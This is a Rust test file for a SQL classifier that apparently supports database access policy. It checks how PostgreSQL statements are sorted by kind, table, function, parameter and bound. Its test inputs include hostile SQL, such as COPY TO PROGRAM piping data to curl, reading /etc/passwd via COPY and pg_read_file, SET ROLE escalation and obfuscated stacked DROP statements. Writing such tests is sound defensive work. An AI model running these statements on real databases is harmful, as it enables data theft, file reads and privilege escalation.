//! Table-driven tests of `classify`: kinds, tables, functions, columns,
//! parameters, wrappers, and the obfuscation corpus.

use hoop_policy::{
    classify, ClassifyCache, CopyDirection, CopyTarget, Kind, Parameter, StatementFacts,
};

/// The most specific kind name of each statement; wrappers as `outer>inner`.
fn kinds(sql: &str) -> Vec<String> {
    classify(sql)
        .statements
        .iter()
        .map(|facts| {
            facts
                .levels()
                .map(|level| level.kind.names().last().cloned().unwrap_or_default())
                .collect::<Vec<_>>()
                .join(">")
        })
        .collect()
}

fn one(sql: &str) -> StatementFacts {
    let mut classified = classify(sql);
    assert_eq!(classified.statements.len(), 1, "{sql}: {classified:?}");
    classified.statements.remove(0)
}

fn tables(facts: &StatementFacts) -> Vec<String> {
    facts.tables.iter().map(|t| t.qualified()).collect()
}

#[test]
fn statement_kinds() {
    let cases: &[(&str, &[&str])] = &[
        ("SELECT 1", &["select"]),
        ("select * from payments where id = 1", &["select"]),
        ("VALUES (1), (2)", &["select"]),
        ("INSERT INTO payments (id) VALUES (1)", &["insert"]),
        ("UPDATE payments SET note = 'x' WHERE id = 1", &["update"]),
        ("DELETE FROM payments WHERE id = 1", &["delete"]),
        (
            "MERGE INTO payments p USING other o ON p.id = o.id WHEN MATCHED THEN DELETE",
            &["merge"],
        ),
        ("COPY payments TO STDOUT", &["copy_stdout"]),
        ("COPY payments FROM STDIN", &["copy_stdin"]),
        ("COPY payments TO PROGRAM 'curl -d @- x'", &["copy_program"]),
        ("copy (select 1) to '/tmp/x'", &["copy_file"]),
        ("COPY payments FROM '/etc/passwd'", &["copy_file"]),
        ("CREATE TABLE t (id int)", &["ddl_create_table"]),
        (
            "CREATE TABLE t AS SELECT * FROM payments",
            &["ddl_create_table"],
        ),
        ("SELECT * INTO t2 FROM payments", &["ddl_create_table"]),
        ("CREATE VIEW v AS SELECT 1", &["ddl_create_view"]),
        (
            "CREATE MATERIALIZED VIEW v AS SELECT 1",
            &["ddl_create_materialized_view"],
        ),
        ("CREATE INDEX ON payments (id)", &["ddl_create_index"]),
        (
            "ALTER TABLE payments DROP COLUMN note",
            &["ddl_alter_table"],
        ),
        ("DROP TABLE payments", &["ddl_drop_table"]),
        ("DROP DATABASE payments", &["ddl_drop_database"]),
        ("DROP SCHEMA s CASCADE", &["ddl_drop_schema"]),
        ("COMMENT ON TABLE payments IS 'x'", &["ddl_comment_table"]),
        (
            "CREATE FUNCTION f() RETURNS int AS $$ select 1 $$ LANGUAGE sql",
            &["ddl_create_function"],
        ),
        ("TRUNCATE payments", &["truncate"]),
        ("CREATE ROLE x LOGIN", &["create_role"]),
        ("CREATE USER u", &["create_role"]),
        ("ALTER ROLE x SUPERUSER", &["alter_role"]),
        ("DROP ROLE x", &["drop_role"]),
        ("GRANT SELECT ON payments TO x", &["grant"]),
        ("GRANT admin TO x", &["grant"]),
        ("REVOKE ALL ON payments FROM x", &["revoke"]),
        ("REASSIGN OWNED BY a TO b", &["owned_objects"]),
        ("ALTER SYSTEM SET work_mem = '1GB'", &["alter_system"]),
        ("SET ROLE postgres", &["set_role"]),
        ("RESET ROLE", &["set_role"]),
        ("SET \"role\" = postgres", &["set_role"]),
        (
            "set session authorization postgres",
            &["session_authorization"],
        ),
        ("RESET SESSION AUTHORIZATION", &["session_authorization"]),
        ("SET search_path = a, b", &["set"]),
        ("SET LOCAL statement_timeout = 5", &["set"]),
        ("RESET ALL", &["set"]),
        ("SET TIME ZONE 'UTC'", &["set"]),
        ("CREATE EXTENSION dblink", &["create_extension"]),
        ("LOAD 'auto_explain'", &["load"]),
        ("DO $$ BEGIN EXECUTE 'DROP TABLE payments'; END $$", &["do"]),
        ("DO $x$ BEGIN PERFORM 1; END $x$", &["do"]),
        ("do language plpgsql $$ begin end $$", &["do"]),
        ("CALL proc(1)", &["call"]),
        ("PREPARE p AS DELETE FROM payments", &["prepare>delete"]),
        (
            "PREPARE p (int) AS SELECT * FROM payments WHERE id = $1",
            &["prepare>select"],
        ),
        ("EXECUTE p(1)", &["execute"]),
        ("DEALLOCATE p", &["deallocate"]),
        (
            "DECLARE c CURSOR FOR SELECT * FROM payments",
            &["declare_cursor>select"],
        ),
        ("FETCH 10 FROM c", &["cursor"]),
        ("CLOSE c", &["cursor"]),
        ("BEGIN", &["transaction"]),
        (
            "START TRANSACTION ISOLATION LEVEL SERIALIZABLE",
            &["transaction"],
        ),
        ("COMMIT", &["transaction"]),
        ("ROLLBACK", &["transaction"]),
        ("SAVEPOINT a", &["transaction"]),
        ("EXPLAIN SELECT 1", &["explain>select"]),
        (
            "EXPLAIN ANALYZE DELETE FROM payments",
            &["explain_analyze>delete"],
        ),
        (
            "EXPLAIN (ANALYZE, BUFFERS) DELETE FROM payments",
            &["explain_analyze>delete"],
        ),
        (
            "EXPLAIN (ANALYZE false) DELETE FROM payments",
            &["explain>delete"],
        ),
        ("SHOW work_mem", &["show"]),
        ("LISTEN ch", &["listen"]),
        ("NOTIFY ch, 'payload'", &["notify"]),
        ("UNLISTEN *", &["unlisten"]),
        ("DISCARD ALL", &["discard"]),
        ("LOCK TABLE payments", &["lock"]),
        ("VACUUM payments", &["maintenance"]),
        (
            "SELECT 1; DROP TABLE payments",
            &["select", "ddl_drop_table"],
        ),
        ("SELECT 1;;; SELECT 2;", &["select", "select"]),
        ("", &[]),
        ("  ;  -- only a comment\n ; /* and another */", &[]),
        ("CHECKPOINT", &["unparsed"]),
        ("TABLE payments", &["unparsed"]),
        ("SELECT 'unterminated", &["unparsed"]),
    ];
    for (sql, expected) in cases {
        assert_eq!(kinds(sql), *expected, "{sql}");
    }
}

#[test]
fn obfuscation_does_not_change_the_kind() {
    let cases: &[(&str, &[&str])] = &[
        // A comment inside a keyword splits it, for PostgreSQL too.
        ("DR/**/OP TABLE payments", &["unparsed"]),
        (
            "/* /* nested */ */ drop table payments",
            &["ddl_drop_table"],
        ),
        ("dRoP TaBlE \"payments\"", &["ddl_drop_table"]),
        ("DROP\n--comment\nTABLE\tpayments", &["ddl_drop_table"]),
        ("select 1 /* ; drop table payments */", &["select"]),
        (
            "select 'a;b'; drop table payments",
            &["select", "ddl_drop_table"],
        ),
        (
            "select $q$ ; $q$; DROP DATABASE payments",
            &["select", "ddl_drop_database"],
        ),
        (
            "select E'\\x3b'; SET ROLE postgres",
            &["select", "set_role"],
        ),
        (
            "select U&'\\003b'; SET ROLE postgres",
            &["select", "set_role"],
        ),
        (
            "SELECT 1; ALTER SYSTEM SET x = 1",
            &["select", "alter_system"],
        ),
        ("SELECT 1; DO $$ BEGIN END $$", &["select", "do"]),
    ];
    for (sql, expected) in cases {
        assert_eq!(kinds(sql), *expected, "{sql}");
    }
}

#[test]
fn tables_are_schema_qualified() {
    let facts = one("SELECT * FROM Payments p JOIN \"Other\" o ON true JOIN s.T3 ON true");
    assert_eq!(tables(&facts), ["public.payments", "public.Other", "s.t3"]);
    assert!(facts.tables[0].schema_assumed);
    assert!(!facts.tables[2].schema_assumed);

    let facts = one("SELECT * FROM db.sch.tab");
    assert_eq!(tables(&facts), ["sch.tab"]);

    // CTE names are not tables; what they read is.
    let facts = one("WITH recent AS (SELECT * FROM payments) SELECT * FROM recent");
    assert_eq!(tables(&facts), ["public.payments"]);

    // A function in FROM is a function, not a table.
    let facts = one("SELECT * FROM dblink('host=x', 'select 1') AS t(a int)");
    assert!(facts.tables.is_empty(), "{facts:?}");
    assert_eq!(facts.functions, ["dblink"]);

    for (sql, expected) in [
        (
            "INSERT INTO payments (id) SELECT id FROM other",
            vec!["public.payments", "public.other"],
        ),
        (
            "UPDATE payments SET note = 'x' FROM other WHERE other.id = payments.id",
            vec!["public.payments", "public.other"],
        ),
        ("DELETE FROM s.payments", vec!["s.payments"]),
        ("COPY payments TO STDOUT", vec!["public.payments"]),
        (
            "TRUNCATE payments, other",
            vec!["public.payments", "public.other"],
        ),
        ("DROP TABLE payments", vec!["public.payments"]),
        ("CREATE INDEX i ON payments (id)", vec!["public.payments"]),
        (
            "SELECT (SELECT max(amount) FROM payments)",
            vec!["public.payments"],
        ),
    ] {
        let mut found = tables(&one(sql));
        found.sort();
        let mut expected: Vec<String> = expected.into_iter().map(String::from).collect();
        expected.sort();
        assert_eq!(found, expected, "{sql}");
    }
}

#[test]
fn functions_are_found_wherever_they_are_called() {
    let cases: &[(&str, &[&str])] = &[
        ("select pg_read_file('/etc/passwd')", &["pg_read_file"]),
        (
            "SELECT PG_CATALOG.PG_READ_FILE('/etc/passwd')",
            &["pg_catalog.pg_read_file"],
        ),
        ("SELECT \"pg_read_file\"('/etc/passwd')", &["pg_read_file"]),
        (
            "SELECT upper(lower(pg_ls_dir('.')))",
            &["upper", "lower", "pg_ls_dir"],
        ),
        ("SELECT * FROM pg_ls_dir('.')", &["pg_ls_dir"]),
        (
            "SELECT 1 WHERE EXISTS (SELECT lo_export(1, '/tmp/x'))",
            &["lo_export"],
        ),
        (
            "COPY (SELECT pg_read_file('x')) TO STDOUT",
            &["pg_read_file"],
        ),
        ("CALL do_things()", &["do_things"]),
    ];
    for (sql, expected) in cases {
        let facts = one(sql);
        for function in *expected {
            assert!(
                facts.functions.iter().any(|f| f == function),
                "{sql}: {function} not in {:?}",
                facts.functions
            );
        }
    }
    let inner = one("PREPARE p AS SELECT pg_read_file('x')");
    assert_eq!(
        inner.inner.as_ref().map(|i| i.functions.clone()),
        Some(vec!["pg_read_file".to_owned()])
    );
}

#[test]
fn parameters_set() {
    let named = |name: &str| Parameter::Named(name.to_owned());
    let cases: Vec<(&str, Vec<Parameter>)> = vec![
        ("SET \"role\" = postgres", vec![named("role")]),
        ("SET ROLE postgres", vec![named("role")]),
        (
            "set session authorization postgres",
            vec![named("session_authorization")],
        ),
        ("SET hoop.session = 'abc'", vec![named("hoop.session")]),
        (
            "SET \"HOOP\".\"SESSION\" = 'abc'",
            vec![named("hoop.session")],
        ),
        ("RESET hoop.session", vec![named("hoop.session")]),
        (
            "SELECT set_config('role','postgres',false)",
            vec![named("role")],
        ),
        (
            "SELECT set_config(E'r\\x6fle', 'postgres', false)",
            vec![named("role")],
        ),
        (
            "SELECT set_config(U&'r\\006fle', 'postgres', false)",
            vec![named("role")],
        ),
        (
            "SELECT set_config($$hoop.session$$, 'x', false)",
            vec![named("hoop.session")],
        ),
        (
            "SELECT pg_catalog.set_config('ROLE'::text, 'x', false)",
            vec![named("role")],
        ),
        (
            "SELECT set_config('ro' || 'le', 'x', false)",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(new_value => 'x', is_local => false, setting_name => 'role')",
            vec![named("role")],
        ),
        (
            "SELECT * FROM set_config('role', 'x', false)",
            vec![named("role")],
        ),
        (
            "SELECT * FROM pg_catalog.set_config($1, 'x', false)",
            vec![Parameter::Unknown],
        ),
        (
            "SELECT set_config(name, 'x', false) FROM t",
            vec![Parameter::Unknown],
        ),
        (
            "UPDATE pg_settings SET setting = 'postgres' WHERE name = 'role'",
            vec![Parameter::Unknown],
        ),
        (
            "DISCARD ALL",
            vec![named("session_authorization"), named("role"), named("all")],
        ),
        ("SET search_path = a", vec![named("search_path")]),
        ("SELECT 1", vec![]),
    ];
    for (sql, expected) in cases {
        assert_eq!(one(sql).parameters, expected, "{sql}");
    }
}

#[test]
fn columns_and_missing_where() {
    let facts = one("SELECT p.card_number, amount FROM payments p WHERE id = 1");
    assert!(facts.columns_read.contains(&"card_number".to_owned()));
    assert!(facts.columns_read.contains(&"amount".to_owned()));
    assert!(!facts.all_columns);
    assert!(one("SELECT * FROM payments").all_columns);
    assert!(one("SELECT p.* FROM payments p").all_columns);

    let update = one("UPDATE payments SET note = 'x', amount = 1");
    assert_eq!(update.columns_written, ["note", "amount"]);
    assert!(update.missing_where);
    assert!(!one("UPDATE payments SET note = 'x' WHERE id = 1").missing_where);
    assert!(one("DELETE FROM payments").missing_where);
    assert!(!one("DELETE FROM payments WHERE id = 1").missing_where);
    assert!(one("WITH d AS (DELETE FROM payments RETURNING *) SELECT * FROM d").missing_where);

    let insert = one("INSERT INTO payments (id, card_number) VALUES (1, 'x')");
    assert_eq!(insert.columns_written, ["id", "card_number"]);
    assert!(one("INSERT INTO payments VALUES (1)").all_columns);
    assert!(one("COPY payments TO STDOUT").all_columns);
    let copy = one("COPY payments (id, note) TO STDOUT");
    assert!(!copy.all_columns);
    assert_eq!(copy.columns_read, ["id", "note"]);
}

#[test]
fn nested_data_modification_is_seen() {
    let facts = one("WITH d AS (DELETE FROM payments RETURNING *) SELECT * FROM d");
    assert_eq!(facts.kind, Kind::Select);
    assert_eq!(facts.nested_kinds, [Kind::Delete]);
    assert_eq!(tables(&facts), ["public.payments"]);
}

#[test]
fn wrappers_expose_names_and_inner_statements() {
    let prepare = one("PREPARE \"Q1\" AS DELETE FROM payments");
    assert_eq!(
        prepare.kind,
        Kind::Prepare {
            name: "Q1".to_owned()
        }
    );
    assert_eq!(
        prepare.inner.as_ref().map(|i| i.kind.clone()),
        Some(Kind::Delete)
    );
    assert_eq!(
        one("EXECUTE Q1(1)").kind,
        Kind::Execute {
            name: "q1".to_owned()
        }
    );
    assert_eq!(one("DEALLOCATE ALL").kind, Kind::Deallocate { name: None });
    assert_eq!(
        one("DEALLOCATE PREPARE q").kind,
        Kind::Deallocate {
            name: Some("q".to_owned())
        }
    );
    assert_eq!(
        one("DECLARE c BINARY CURSOR WITH HOLD FOR SELECT card_number FROM payments").kind,
        Kind::DeclareCursor {
            name: "c".to_owned(),
            binary: true
        }
    );
    let copy = one("COPY payments TO PROGRAM 'x'");
    assert_eq!(
        copy.kind,
        Kind::Copy {
            direction: CopyDirection::To,
            target: CopyTarget::Program
        }
    );
    let unparsed = one("DR/**/OP TABLE payments");
    assert!(unparsed.unparsed_reason.is_some());
}

#[test]
fn predicate_bounds() {
    let interval = |sql: &str| one(sql).bounds.get("amount");
    let lower = |sql: &str| interval(sql).lower.map(|b| (b.value, b.inclusive));
    let upper = |sql: &str| interval(sql).upper.map(|b| (b.value, b.inclusive));

    assert_eq!(
        lower("SELECT * FROM payments WHERE amount > 20000"),
        Some((20000.0, false))
    );
    assert_eq!(
        lower("SELECT * FROM payments WHERE amount >= 10001"),
        Some((10001.0, true))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount < 500"),
        Some((500.0, false))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE 500 > amount"),
        Some((500.0, false))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE p.amount <= -5"),
        Some((-5.0, true))
    );
    assert_eq!(
        (
            lower("SELECT * FROM payments WHERE amount BETWEEN 15000 AND 30000"),
            upper("SELECT * FROM payments WHERE amount BETWEEN 15000 AND 30000")
        ),
        (Some((15000.0, true)), Some((30000.0, true)))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE id = 3 AND (amount < 500 AND amount < 100)"),
        Some((100.0, false))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount IN (1, 7, 3)"),
        Some((7.0, true))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount < '500'"),
        Some((500.0, false))
    );
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount < 500::numeric"),
        Some((500.0, false))
    );
    // Unbounded: OR, NOT, parameters, casts of the column, no WHERE.
    for sql in [
        "SELECT * FROM payments",
        "SELECT * FROM payments WHERE amount < 500 OR id = 1",
        "SELECT * FROM payments WHERE NOT amount > 500",
        "SELECT * FROM payments WHERE amount < $1",
        "SELECT * FROM payments WHERE amount::text < '5'",
        "SELECT * FROM payments WHERE amount NOT BETWEEN 1 AND 2",
        // A subquery with its own FROM and no bound reads without a bound.
        "SELECT * FROM payments WHERE amount < 500 AND id IN (SELECT id FROM payments)",
        "SELECT * FROM payments WHERE amount < 500 UNION SELECT * FROM payments",
    ] {
        assert_eq!(interval(sql), Default::default(), "{sql}");
    }
    // Both branches bounded: the hull.
    assert_eq!(
        upper("SELECT * FROM payments WHERE amount < 500 UNION SELECT * FROM payments WHERE amount < 700"),
        Some((700.0, false))
    );
}

#[test]
fn the_cache_returns_the_same_classification() {
    let mut cache = ClassifyCache::new(4);
    let first = cache.classify("SELECT 1");
    let again = cache.classify("SELECT 1");
    assert!(std::sync::Arc::ptr_eq(&first, &again));
    for i in 0..20 {
        cache.classify(&format!("SELECT {i}"));
    }
    assert!(cache.len() <= 4, "bounded: {}", cache.len());
    assert_eq!(*cache.classify("SELECT 1"), classify("SELECT 1"));
}
